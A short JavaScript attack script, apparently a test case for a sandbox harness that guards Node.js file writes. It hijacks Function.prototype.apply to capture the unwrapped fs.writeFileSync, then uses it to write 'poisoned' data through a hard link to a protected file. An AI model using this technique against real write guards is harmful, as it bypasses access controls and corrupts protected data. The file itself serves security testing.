/* @attack {"title": "hijack Function.prototype.apply: the wrapper calls orig.apply(...) after an allowed check, handing over the unwrapped writeFileSync; use it on the pre-placed hard link", "setup": ["hardlink-to-lakehouse"]} */
import fs from 'node:fs';
const dir = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${dir}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
const realApply = Function.prototype.apply;
let raw;
let hijacked = false;
try {
  Function.prototype.apply = function apply(self, args) {
    if (raw === undefined && this.name === 'writeFileSync') raw = this;
    return Reflect.apply(this, self, args ?? []);
  };
  hijacked = true;
} catch {
  // Function.prototype.apply is read-only: nothing to capture
}
try {
  fs.writeFileSync(`${dir}/innocent.txt`, 'allowed\n');
} finally {
  if (hijacked) Function.prototype.apply = realApply;
}
// Nothing captured: the wrapped function, which must refuse.
const write = typeof raw === 'function' ? raw : fs.writeFileSync;
try {
  Reflect.apply(write, fs, [`${dir}/hard.csv`, 'poisoned through a captured original\n']);
} finally {
  // The harness's own hard link raised AAPL.csv's link count, which its snapshot records: drop it.
  fs.rmSync(`${dir}/hard.csv`, { force: true });
}
